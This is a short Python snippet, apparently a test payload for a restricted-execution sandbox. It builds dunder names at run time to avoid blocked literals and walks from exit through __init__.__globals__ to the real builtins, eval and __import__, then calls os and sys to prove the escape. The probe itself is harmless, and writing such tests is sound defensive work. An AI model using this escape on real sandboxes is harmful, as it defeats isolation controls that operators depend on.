# technique: operator.attrgetter with a dotted dunder path built at run time ('__init__.__globals__') applied to exit -> _sitebuiltins' module globals -> real builtins -> real eval and __import__
# configs: default, common
# No blocked attribute or blocked string literal appears in the source; with nothing allowed
# `import operator` is refused.
import operator
u = '_' * 2
g = operator.attrgetter(u + 'init' + u + '.' + u + 'globals' + u)(exit)
real_builtins = g[u + 'builtins' + u]
real_import = real_builtins[u + 'import' + u]
return [{'json': {'escaped': [real_builtins['eval']('6 * 7'), real_import('os').getpid(), sorted(real_import('sys').modules)[:5]]}}]
